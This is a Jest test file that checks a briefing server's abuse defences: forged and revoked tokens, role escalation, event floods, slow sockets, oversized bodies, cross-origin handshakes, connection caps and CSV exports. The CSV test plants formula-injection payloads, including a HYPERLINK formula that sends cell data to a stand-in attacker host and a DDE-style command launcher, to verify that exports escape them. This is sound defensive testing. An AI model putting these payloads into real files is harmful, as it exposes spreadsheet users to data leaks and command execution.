// Abuse by clients that hold, or pretend to hold, a credential: tokens forged, revoked,
// replayed, of another point or session, stale check-in codes; a point trying to act as
// the host or to see other points; a client flooding at 1,000 events a second; a client
// that stops reading its socket; a body announced as 100 MB; socket handshakes from a
// foreign origin, to the default namespace, or too many from one address; formulas in
// the names that every CSV export writes (docs/security.md). Fills the gaps left by
// broadcast-signalling (handshakes, no produce without the floor), control-plane-api
// (tampered, expired, cancelled, other-secret tokens) and accounts-auth (login slowing).
// Measured latencies are printed as `[abuse] …` lines for docs/reliability.md.
import http from 'node:http';
import { parse } from 'csv-parse/sync';
import { io as connect, Manager, type Socket } from 'socket.io-client';
import request from 'supertest';
import { connectSocket, handshake, prepareBriefing, type PreparedBriefing, publishHall } from '../helpers/briefing';
import { startBriefingServer, type BriefingServer } from '../helpers/briefing-server';
import { capturingLogger } from '../helpers/logs';
import { startTestOrchestrator, waitFor, type TestOrchestrator } from '../helpers/orchestrator';
import { startTestRedis, type TestRedis } from '../helpers/redis';

jest.setTimeout(90_000);

const POINTS = ['HT-CX', 'HT-DT', 'HT-VQ', 'HT-KA'];
const log = (line: string) => process.stderr.write(`[abuse] ${line}\n`);
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
type AckRes = { ok: true; data: any } | { ok: false; error: { code: string; message: string } }; // eslint-disable-line @typescript-eslint/no-explicit-any
const ask = (s: Socket, event: string, payload: unknown = {}, timeout = 5000) =>
  s.timeout(timeout).emitWithAck(event, payload) as Promise<AckRes>;

/** One engine.io connection (what the per-address cap counts), as a client behind `forwardedFor`. */
function engineConnection(baseUrl: string, headers: Record<string, string> = {}): Promise<Manager> {
  const m = new Manager(baseUrl, {
    transports: ['websocket'],
    reconnection: false,
    autoConnect: false,
    extraHeaders: headers,
  });
  return new Promise((resolve, reject) => m.open((err) => (err ? reject(err) : resolve(m))));
}

function percentile(xs: number[], p: number): number {
  const s = [...xs].sort((a, b) => a - b);
  return s[Math.min(s.length - 1, Math.floor((p / 100) * s.length))] ?? NaN;
}

describe('abuse: tokens, roles, floods, slow readers, big bodies', () => {
  let srv: BriefingServer;
  let o: TestOrchestrator;
  let b: PreparedBriefing;
  let other: PreparedBriefing;
  let host: Socket;
  const token = (pointId: string, br = b) => srv.token(pointId, br);
  const point = (pointId: string, br = b) => srv.point(pointId, { br });

  beforeAll(async () => {
    srv = await startBriefingServer(POINTS);
    ({ o, b } = srv);
    other = await prepareBriefing(o.baseUrl, POINTS);
    host = await connectSocket(o.baseUrl, '/host', { cookie: b.cookie });
    expect((await ask(host, 'host:attach', { sessionId: b.sessionId })).ok).toBe(true);
    await publishHall(host);
    expect((await ask(host, 'session:goLive')).ok).toBe(true);
  });
  afterAll(async () => {
    host?.close();
    await srv?.stop();
  });

  describe('tokens', () => {
    test('forged: random, truncated, re-signed, with the payload of another token', async () => {
      const t = token(POINTS[0]!);
      const [payload, mac] = t.split('.') as [string, string];
      const u = token(POINTS[1]!);
      const forged = [
        'A'.repeat(40),
        t.slice(0, 20),
        `${payload}.${'A'.repeat(mac.length)}`,
        `${u.split('.')[0]}.${mac}`, // another point's payload under this signature
        `${payload}.${mac}.extra`,
        `${payload}`,
      ];
      for (const f of forged) {
        await expect(connectSocket(o.baseUrl, '/point', { token: f })).rejects.toMatchObject({
          code: 'token_invalid',
        });
      }
      await expect(connectSocket(o.baseUrl, '/point', { token: 42 as unknown as string })).rejects.toMatchObject({
        code: 'token_invalid',
      });
    });

    test('revoked: the connected page is let go, and the token replayed afterwards is refused; the re-issued one works', async () => {
      const victim = POINTS[3]!;
      const s = await point(victim);
      const kicked = new Promise<{ reason: string }>((resolve) => s.once('kicked', resolve));
      const gone = new Promise<void>((resolve) => s.once('disconnect', () => resolve()));
      const res = await request(o.baseUrl)
        .post(`/api/v1/sessions/${b.sessionId}/links/${victim}/reissue`)
        .set('Cookie', b.cookie)
        .expect(200);
      expect((await kicked).reason).toMatch(/revoked/);
      await gone;
      await expect(connectSocket(o.baseUrl, '/point', { token: token(victim) })).rejects.toMatchObject({
        code: 'token_revoked',
        reason: 'link_replaced',
      });
      await expect(request(o.baseUrl).get(`/api/v1/join/${token(victim)}`)).resolves.toMatchObject({ status: 410 });
      const fresh = await connectSocket(o.baseUrl, '/point', { token: res.body.token as string });
      expect((await ask(fresh, 'view:get')).ok).toBe(true);
      fresh.close();
    });

    test("another session's token acts only in that session", async () => {
      const s = await point(POINTS[0]!, other);
      const view = await ask(s, 'view:get');
      expect(view.ok && view.data.sessionId).toBe(other.sessionId);
      const hc = await ask(s, 'headcount:report', { count: 12 });
      expect(hc.ok).toBe(true);
      const svc = o.orchestrator.attendance.service;
      expect(await svc.ledger.headcount(b.sessionId, POINTS[0]!)).toBeNull();
      expect((await svc.ledger.headcount(other.sessionId, POINTS[0]!))?.count).toBe(12);
    });

    test('check-in codes: forged or altered are refused (older than their rotation: attendance.test.ts, 410)', async () => {
      const s = await point(POINTS[1]!);
      const qr = await ask(s, 'checkin:qr');
      expect(qr.ok).toBe(true);
      const code = qr.ok ? (qr.data.token as string) : '';
      await request(o.baseUrl).get(`/api/v1/checkin/${code}`).expect(200);
      const altered = `${code.slice(0, -4)}${code.endsWith('AAAA') ? 'BBBB' : 'AAAA'}`;
      const res = await request(o.baseUrl).get(`/api/v1/checkin/${altered}`);
      expect(res.status).toBe(401);
      expect(res.body.code).toBe('token_invalid');
      // A join token is not a check-in code.
      expect((await request(o.baseUrl).get(`/api/v1/checkin/${token(POINTS[1]!)}`)).status).toBe(401);
    });
  });

  describe('a point is only a point', () => {
    test('host and monitor namespaces refuse a join token; host events on /point are not answered and change nothing', async () => {
      // A fresh connection each (one socket.io Manager per URL would share the host's cookie).
      for (const ns of ['/host', '/monitor']) {
        const c = connect(`${o.baseUrl}${ns}`, {
          forceNew: true,
          reconnection: false,
          transports: ['websocket'],
          auth: { token: token(POINTS[0]!) },
        });
        const err = await new Promise<Error & { data?: { code?: string } }>((resolve, reject) => {
          c.once('connect_error', resolve);
          c.once('connect', () => reject(new Error(`${ns} accepted a join token`)));
        });
        c.close();
        expect(err.data?.code).toBe('unauthenticated');
      }
      const s = await point(POINTS[0]!);
      const live = await o.orchestrator.realtime.broadcasts.get(b.sessionId);
      const before = JSON.stringify(await live.view());
      for (const [event, payload] of [
        ['floor:grant', { pointId: POINTS[0] }],
        ['agenda:go', { index: 3 }],
        ['session:end', {}],
        ['media:pause', { kind: 'video', paused: true }],
        ['host:attach', { sessionId: b.sessionId }],
        ['monitor:detail', { sessionId: b.sessionId, pointId: POINTS[1] }],
        ['alert:clear', { sessionId: b.sessionId, alertId: 'x' }],
      ] as const) {
        await expect(ask(s, event, payload, 500)).rejects.toThrow(); // no handler: no answer
      }
      expect(JSON.stringify(await live.view())).toBe(before);
      expect(s.connected).toBe(true);
    });

    test("a point never receives another point's data", async () => {
      const watcher = await point(POINTS[2]!);
      const seen: string[] = [];
      watcher.onAny((event: string, payload: unknown) => seen.push(`${event} ${JSON.stringify(payload)}`));
      const actor = await point(POINTS[1]!);
      expect((await ask(actor, 'headcount:report', { count: 55, by: 'Nguyễn Văn A' })).ok).toBe(true);
      expect((await ask(actor, 'problem:report', { kind: 'no-video', note: 'bí mật' })).ok).toBe(true);
      expect((await ask(actor, 'hand:raise')).ok).toBe(true);
      expect((await ask(actor, 'hand:lower')).ok).toBe(true);
      const mine = await ask(watcher, 'attendance:mine');
      expect(mine.ok && mine.data.headcount).toBeNull();
      await sleep(1500);
      const leaked = seen.filter((x) => /Nguyễn Văn A|bí mật|"count":55|HT-DT/.test(x));
      expect(leaked).toEqual([]);
    });
  });

  describe('floods and slow readers', () => {
    test('a client sending 1,000 events a second is refused, then disconnected; another point is not slowed', async () => {
      const flooder = await point(POINTS[0]!);
      const calm = await point(POINTS[2]!);
      const latency = async (n: number, everyMs: number) => {
        const out: number[] = [];
        for (let i = 0; i < n; i++) {
          const t = performance.now();
          const res = await ask(calm, 'view:get');
          expect(res.ok).toBe(true);
          out.push(performance.now() - t);
          await sleep(everyMs);
        }
        return out;
      };
      const baseline = await latency(20, 50);
      let refused = 0;
      let answered = 0;
      const disconnected = new Promise<number>((resolve) => flooder.once('disconnect', () => resolve(Date.now())));
      const t0 = Date.now();
      const flood = (async () => {
        // 1,000 a second in 1 ms steps, for at most 3 s or until the server hangs up.
        for (let i = 0; i < 3000 && flooder.connected; i++) {
          flooder.emit('view:get', {}, (res: AckRes) =>
            res.ok ? answered++ : res.error.code === 'rate_limited' && refused++,
          );
          if (i % 10 === 9) await sleep(10);
        }
      })();
      const during = await latency(20, 50);
      await flood;
      const at = await Promise.race([disconnected, sleep(5000).then(() => 0)]);
      expect(at).toBeGreaterThan(0);
      expect(refused).toBeGreaterThan(100);
      const fmt = (xs: number[]) => `p50 ${percentile(xs, 50).toFixed(1)} ms, max ${Math.max(...xs).toFixed(1)} ms`;
      log(
        `flood: ${answered} answered, ${refused} refused rate_limited, disconnected after ${at - t0} ms; ` +
          `another point's view:get before ${fmt(baseline)}, during ${fmt(during)}`,
      );
      expect(calm.connected).toBe(true);
    });

    test('a point that stops reading its socket is dropped by the heartbeat; the others get every push on time', async () => {
      const slow = await point(POINTS[1]!);
      const calm = await point(POINTS[2]!);
      const engine = (slow as unknown as { io: { engine: { transport: { ws?: { _socket?: import('net').Socket } } } } })
        .io.engine;
      const raw = engine.transport.ws?._socket;
      expect(raw).toBeDefined();
      raw!.pause(); // stops reading: the server's writes pile up in its kernel buffers
      const t0 = Date.now();
      const svc = o.orchestrator.attendance.service;
      const disconnectsBefore = (await svc.ledger.presence(b.sessionId, POINTS[1]!)).disconnects;
      let pushes = 0;
      let received = 0;
      const delays: number[] = [];
      calm.on('view', () => received++);
      // The host pushes a view change to every point about 10 times a second until the
      // server gives up on the silent socket (ping every 10 s, 10 s to answer).
      while (Date.now() - t0 < 35_000) {
        const t = performance.now();
        const got = new Promise<void>((resolve) => calm.once('view', () => resolve()));
        const res = await ask(host, 'slides:set', { on: pushes % 2 === 0 });
        expect(res.ok).toBe(true);
        await got;
        delays.push(performance.now() - t);
        pushes++;
        if ((await svc.ledger.presence(b.sessionId, POINTS[1]!)).disconnects > disconnectsBefore) break;
        await sleep(100);
      }
      const droppedAfter = Date.now() - t0;
      expect((await svc.ledger.presence(b.sessionId, POINTS[1]!)).disconnects).toBeGreaterThan(disconnectsBefore);
      expect(received).toBeGreaterThanOrEqual(pushes);
      log(
        `slow reader: dropped by the server ${droppedAfter} ms after it stopped reading; meanwhile ${pushes} pushes ` +
          `reached another point, host action → push p50 ${percentile(delays, 50).toFixed(1)} ms, p99 ${percentile(delays, 99).toFixed(1)} ms`,
      );
      raw!.resume();
      slow.close();
    }, 60_000);
  });

  describe('big bodies', () => {
    /** Starts a POST, sends `first`, then waits for the answer without sending more. */
    const post = (first: string, headers: Record<string, string>, end = false) => {
      const url = new URL(`${o.baseUrl}/api/v1/sessions`);
      return new Promise<{ status: number; body: string }>((resolve, reject) => {
        const req = http.request(
          {
            host: url.hostname,
            port: url.port,
            path: url.pathname,
            method: 'POST',
            headers: { 'content-type': 'application/json', cookie: b.cookie, ...headers },
          },
          (resp) => {
            let body = '';
            resp.on('data', (c) => (body += c));
            resp.on('end', () => resolve({ status: resp.statusCode!, body }));
          },
        );
        req.on('error', reject);
        req.write(first);
        if (end) req.end();
        setTimeout(() => req.destroy(new Error('no answer in 10 s')), 10_000).unref();
      });
    };

    test('a body announced as 100 MB is refused with 413 before it is sent', async () => {
      const t0 = Date.now();
      const res = await post('{"title":"', { 'content-length': String(100 * 1024 * 1024) });
      expect(res.status).toBe(413);
      expect(JSON.parse(res.body).code).toBe('payload_too_large');
      log(`100 MB announced: 413 after ${Date.now() - t0} ms, 10 bytes sent`);
    });

    test('a chunked body (no length) over the 256 KiB JSON limit is refused (read to its end, not kept)', async () => {
      const res = await post(`{"title":"${'x'.repeat(300 * 1024)}"}`, {}, true);
      expect(res.status).toBe(413);
      expect(JSON.parse(res.body).code).toBe('payload_too_large');
    });
  });

  describe('socket handshakes', () => {
    test('a page of another site cannot open a socket with the login cookie; the same host can', async () => {
      const monitor = `${o.baseUrl}/monitor`;
      expect(await handshake(monitor, { cookie: b.cookie, origin: o.baseUrl })).toBe('connected');
      expect(await handshake(monitor, { cookie: b.cookie })).toBe('connected'); // not a browser: no Origin
      for (const origin of ['https://evil.example', 'http://127.0.0.1.evil.example', 'null', 'file://']) {
        expect(await handshake(monitor, { cookie: b.cookie, origin })).toBe('refused');
        expect(await handshake(`${o.baseUrl}/host`, { cookie: b.cookie, origin, polling: true })).toBe('refused');
      }
      const port = new URL(o.baseUrl).port;
      expect(await handshake(monitor, { cookie: b.cookie, origin: `http://127.0.0.1:${Number(port) + 1}` })).toBe(
        'refused',
      );
    });

    test('the default namespace is closed', async () => {
      expect(await handshake(`${o.baseUrl}/`)).toBe('not_found');
      expect(await handshake(`${o.baseUrl}/`, { cookie: b.cookie, polling: true })).toBe('not_found');
    });

    test('450 connections from one address (420 points behind one NAT, and their desks) are all admitted', async () => {
      const nat = { 'x-forwarded-for': '203.0.113.200' };
      const managers = await Promise.all(Array.from({ length: 450 }, () => engineConnection(o.baseUrl, nat)));
      try {
        expect(o.orchestrator.app.socketGate.openFrom('203.0.113.200')).toBe(450);
      } finally {
        for (const m of managers) m.engine?.close();
      }
      await waitFor(() => o.orchestrator.app.socketGate.openFrom('203.0.113.200') === 0, 'all 450 closed', 15_000);
    });
  });

  test('every CSV the product writes: names that are formulas come out as text', async () => {
    const hostile = {
      code: 'HT-FORMULA',
      name: '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
      level: 'commune',
      parent: 'HT-CX',
      district: 'HT-CX',
      expectedDelegates: 30,
      contactName: "@SUM(1+1)*cmd|' /C calc'!A0",
      contactPhone: '+84 912 345 678',
    };
    await request(o.baseUrl).post('/api/v1/points').set('Cookie', b.cookie).send(hostile).expect(201);
    const s = await prepareBriefing(o.baseUrl, [hostile.code]);
    await o.orchestrator.attendance.service.generateReport(s.sessionId);
    const get = async (path: string) => (await request(o.baseUrl).get(path).set('Cookie', b.cookie).expect(200)).text;
    const files = {
      links: await get(`/api/v1/sessions/${s.sessionId}/links.csv`),
      points: await get('/api/v1/points/export.csv'),
      report: await get(`/api/v1/reports/${s.sessionId}/csv`),
    };
    for (const [what, text] of Object.entries(files)) {
      const rows = parse(text.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
      const cells = rows.flat();
      expect([what, cells]).toEqual([what, expect.arrayContaining([`'${hostile.name}`])]);
      const running = cells.filter((c) => /^\s*[=@]|^[+-](?![0-9 .]*$)/.test(c));
      expect([what, running]).toEqual([what, []]);
    }
    expect(parse(files.points.slice(1), { columns: true })).toContainEqual(
      expect.objectContaining({ contact_name: `'${hostile.contactName}`, contact_phone: hostile.contactPhone }),
    );
  });

  test('login brute force: see accounts-auth.test.ts (per-username slowing, per-address cap)', async () => {
    // Here only that the cap answers with a code a client can act on.
    let last: request.Response | undefined;
    for (let i = 0; i < 40; i++) {
      last = await request(o.baseUrl)
        .post('/api/v1/auth/login')
        .send({ username: `nobody${i}`, password: 'wrong-password-123' });
      if (last.status === 429) break;
    }
    expect(last!.status).toBe(429);
    expect(last!.body.code).toBe('rate_limited');
  });
});

describe('abuse: connections per client address', () => {
  let r: TestRedis;
  let o: TestOrchestrator;
  beforeAll(async () => {
    r = await startTestRedis();
    o = await startTestOrchestrator(r.url, { SOCKET_MAX_PER_ADDRESS: '5' });
  });
  afterAll(async () => {
    await o?.stop();
    await r?.cleanup();
  });

  test('beyond the cap an address is refused until one of its connections closes; other clients behind the same proxy are not', async () => {
    const a = { 'x-forwarded-for': '198.51.100.1' };
    const first = await Promise.all(Array.from({ length: 5 }, () => engineConnection(o.baseUrl, a)));
    await expect(engineConnection(o.baseUrl, a)).rejects.toThrow();
    expect(await handshake(`${o.baseUrl}/point`, { polling: true })).not.toBe('refused'); // this test's own address
    // Another client of the same (trusted) proxy counts on its own.
    const b = await engineConnection(o.baseUrl, { 'x-forwarded-for': '198.51.100.2' });
    first[0]!.engine.close();
    await waitFor(() => o.orchestrator.app.socketGate.openFrom('198.51.100.1') === 4, 'one closed');
    const again = await engineConnection(o.baseUrl, a);
    for (const m of [...first, b, again]) m.engine?.close();
  });
});

describe('abuse: TRUST_PROXY decides whose address a limit counts', () => {
  let r: TestRedis;
  let oneHop: TestOrchestrator;
  let elsewhere: TestOrchestrator;
  const { logger, lines: warnings } = capturingLogger();
  beforeAll(async () => {
    r = await startTestRedis();
    // As behind the production compose file's nginx: one proxy in front, its address unknown.
    oneHop = await startTestOrchestrator(r.url, { SOCKET_MAX_PER_ADDRESS: '2', TRUST_PROXY: '1' });
    // The only trusted proxy is another machine: this test's loopback client is not it.
    elsewhere = await startTestOrchestrator(r.url, { SOCKET_MAX_PER_ADDRESS: '2', TRUST_PROXY: '10.0.0.2' }, logger);
  });
  afterAll(async () => {
    await oneHop?.stop();
    await elsewhere?.stop();
    await r?.cleanup();
  });

  test('one hop: the address the proxy adds is the client, whatever the client claimed before it', async () => {
    // nginx appends the peer it saw to what the client sent: only that last entry counts.
    const as = (claimed: string, seen: string) => ({ 'x-forwarded-for': `${claimed}, ${seen}` });
    const a = [await engineConnection(oneHop.baseUrl, as('10.1.1.1', '198.51.100.1'))];
    a.push(await engineConnection(oneHop.baseUrl, as('10.1.1.2', '198.51.100.1')));
    await expect(engineConnection(oneHop.baseUrl, as('10.1.1.3', '198.51.100.1'))).rejects.toThrow();
    const b = await engineConnection(oneHop.baseUrl, as('198.51.100.1', '198.51.100.2'));
    expect(oneHop.orchestrator.app.socketGate.openFrom('198.51.100.2')).toBe(1);
    for (const m of [...a, b]) m.engine.close();
    // /metrics (loopback only by default) sees the client too, not the proxy.
    await request(oneHop.baseUrl).get('/metrics').set('X-Forwarded-For', '203.0.113.9').expect(403);
    await request(oneHop.baseUrl).get('/metrics').set('X-Forwarded-For', '203.0.113.9, 127.0.0.1').expect(200);
  });

  test('a peer that is not a trusted proxy is the client: its X-Forwarded-For changes nothing', async () => {
    const c = [await engineConnection(elsewhere.baseUrl, { 'x-forwarded-for': '198.51.100.1' })];
    c.push(await engineConnection(elsewhere.baseUrl, { 'x-forwarded-for': '198.51.100.2' }));
    await expect(engineConnection(elsewhere.baseUrl, { 'x-forwarded-for': '198.51.100.3' })).rejects.toThrow();
    expect(elsewhere.orchestrator.app.socketGate.openFrom('198.51.100.1')).toBe(0);
    for (const m of c) m.engine.close();
    await request(elsewhere.baseUrl).get('/metrics').set('X-Forwarded-For', '203.0.113.9').expect(200);
    await request(elsewhere.baseUrl).get('/healthz').set('X-Forwarded-For', '203.0.113.10').expect(200);
    // The operator is told, once, that a proxy may be missing from TRUST_PROXY.
    const told = warnings.filter((w) => /X-Forwarded-For from a peer TRUST_PROXY does not trust/.test(String(w.msg)));
    expect(told).toEqual([expect.objectContaining({ peer: '127.0.0.1' })]);
  });
});
